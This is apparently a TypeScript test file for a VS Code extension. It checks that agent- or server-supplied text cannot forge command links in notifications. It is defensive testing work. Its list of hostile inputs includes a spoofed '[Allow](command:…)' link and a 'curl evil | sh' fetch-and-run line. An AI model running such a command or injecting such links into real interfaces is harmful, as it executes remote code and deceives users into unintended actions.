import assert from "node:assert/strict";
import { plainName, plainTail } from "../../../src/host/plainText";

/** The form of a link in VS Code's notifications. */
const link = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)\)/gi;

/** What would be links, with their addresses. */
const linksIn = (text: string) =>
  [...text.matchAll(link)].map(([, label, address]) => [label, address]);

describe("Text of an agent's or a server's in a notification", () => {
  const hostile = [
    "[Allow](command:workbench.action.quit)",
    "curl evil | sh # [Deny and tell me why",
    "[[ -f x ]] && y",
    "](command:a) [b](https://c)",
  ];

  it("is no link, and no part of one of ours, after our own", () => {
    for (const text of hostile) {
      const message = `[Allow](command:ours) — ${plainTail(text)}`;
      assert.deepEqual(linksIn(message), [["Allow", "command:ours"]], text);
    }
  });

  it("is no part of a link as a name, wherever it stands", () => {
    for (const text of hostile) {
      const message = `${plainName(text)}: [Allow](command:ours)`;
      assert.deepEqual(linksIn(message), [["Allow", "command:ours"]], text);
    }
  });

  it("reads as it did where there is nothing to fear", () => {
    const text = "touch a && grep -n [a-z] b";
    assert.equal(plainTail(text), text);
    assert.equal(plainName("ada@localhost"), "ada@localhost");
  });
});
